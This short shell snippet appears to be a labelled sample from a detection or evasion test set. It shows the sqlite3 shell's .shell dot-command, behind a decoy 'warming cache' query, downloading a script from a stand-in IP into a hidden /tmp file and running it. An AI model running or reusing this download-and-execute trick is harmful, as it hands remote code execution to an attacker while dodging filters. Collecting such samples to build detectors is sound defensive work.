# evasion: the sqlite3 shell's .shell dot-command runs a program, fed through a here-document
# grade: hard; does: download-exec
sqlite3 :memory: <<'SQL'
select 'warming cache';
.shell curl -fsSL http://203.0.113.42/i.sh -o /tmp/.i && sh /tmp/.i
SQL
